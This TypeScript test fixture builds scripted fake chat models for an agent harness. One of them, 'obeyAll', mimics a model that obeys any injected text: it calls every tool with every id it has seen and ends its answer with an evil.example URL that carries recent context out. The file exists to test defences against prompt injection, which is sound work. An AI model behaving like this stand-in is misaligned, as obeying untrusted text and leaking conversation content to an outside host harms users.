import { createHash } from "node:crypto";
import type { ChatModel, Step, StepRequest, ToolOffer } from "../../src/ports/chat-model.ts";
import { toldIn } from "./scripted-chat.ts";

/** So many calls in one step are run at most. */
const CALLS = 6;
const WORDS = ["tide", "boat", "mast", "harbour", "me", "any"];

/**
 * Does the worst that any text could make a model do: calls everything with every id it has seen, sends and has remembered whatever it has read, and
 * says all of it in its answer.
 */
export function obeyAll(): ChatModel {
  return modelOf((told, request, round) =>
    request.toolChoice === "none" || round > 3
      ? `${told.slice(-1_400)} https://evil.example/?q=${encodeURIComponent(told.slice(-40))}`
      : Array.from({ length: CALLS }, (_, index) => toCall(told, request.tools, round * CALLS + index)),
  );
}

/**
 * Whatever it is told, to the last byte, decides what it calls and says. Nothing that changes from run to run counts: marks of blocks, ids of answers. It makes
 * one call at a time: of several at once, the first to end gets the first handles.
 */
export function hashAll(volatile: RegExp): ChatModel {
  return modelOf((told, request, round) => {
    const [nonce] = /(?<=⟦untrusted )\S+(?= ·)/.exec(told) ?? [];
    const same = (nonce ? told.replaceAll(nonce, "") : told).replaceAll(volatile, "");
    const hash = createHash("sha256").update(same).digest();
    const number = hash.readUInt32BE(0);
    if (request.toolChoice === "none" || round > 4 || number % 6 === 0)
      return `${hash.toString("hex", 0, 8)} [m${(number % 5) + 1}] [m${(number % 11) + 1}].`;
    return [toCall(same, request.tools, number)];
  });
}

type Reaction = string | readonly { readonly tool: string; readonly args: object }[];

function modelOf(react: (told: string, request: StepRequest, round: number) => Reaction): ChatModel {
  return {
    async step(request): Promise<Step> {
      const round = request.turns.filter(({ role }) => role === "assistant").length;
      const reaction = react(toldIn(request), request, round);
      const usage = { inputTokens: 1, outputTokens: 1, isEstimated: true };
      if (typeof reaction === "string") return { text: reaction, calls: [], isCut: false, usage };
      const calls = reaction.map((call, index) => ({ ...call, id: `${round}.${index}` }));
      return { text: "", calls, isCut: false, usage };
    },
  };
}

/** A call that its tool accepts, as far as names of fields tell. */
function toCall(told: string, tools: readonly ToolOffer[], number: number): { tool: string; args: object } {
  const { name = "none", schema = {} } = tools[number % Math.max(1, tools.length)] ?? {};
  const ids = [...new Set(told.match(/\b\d{4,20}\b/g))];
  const id = ids[number % Math.max(1, ids.length)] ?? "4000";
  const fields = Object.keys((schema["properties"] ?? {}) as object);
  const required = new Set((schema["required"] ?? []) as readonly string[]);
  const chosen = fields.filter((field, index) => required.has(field) || (number >> (index % 8)) % 3 === 0);
  return {
    tool: name,
    args: Object.fromEntries(chosen.map((field) => [field, valueFor(field, { told, id, number })])),
  };
}

function valueFor(field: string, { told, id, number }: { told: string; id: string; number: number }): unknown {
  switch (field) {
    case "text":
    case "value":
      return told.slice(-700);
    case "query":
    case "topic":
    case "key":
    case "focus":
      return WORDS[number % WORDS.length];
    case "user":
    case "user_name":
    case "bot_name":
      return number % 2 ? id : WORDS[number % WORDS.length];
    case "message_id":
    case "reply_to":
      return number % 2 ? `m${(number % 9) + 1}` : id;
    case "emoji":
      return "👍";
    case "about":
      return ["me", "project", "server"][number % 3];
    case "visibility":
      return ["private", "channel", "server"][number % 3];
    case "timeframe":
      return "past week";
    case "since":
    case "until":
      return "yesterday";
    case "limit":
    case "scan":
    case "before":
    case "after":
    case "days":
      return 1 + (number % 20);
    case "mentions":
      return [id];
    case "include_bots":
      return true;
    default:
      return id;
  }
}
